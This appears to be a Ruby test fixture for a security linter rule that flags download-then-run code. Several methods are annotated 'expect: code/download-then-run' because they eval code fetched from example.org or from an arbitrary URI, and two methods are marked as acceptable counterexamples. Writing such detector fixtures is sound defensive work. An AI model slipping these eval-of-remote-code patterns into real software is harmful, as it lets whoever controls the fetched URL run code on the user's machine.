def install
  eval(Net::HTTP.get(URI('https://example.org/install.rb')))  # expect: code/download-then-run
end

def plugin(address)
  instance_eval(URI.open(address).read)  # expect: code/download-then-run
end

def install_again
  File.write('install.rb', Net::HTTP.get(URI('https://example.org/install.rb')))  # ok
end

def local(path)
  instance_eval(File.read('config/setup.rb'))  # ok: a file of our own
end
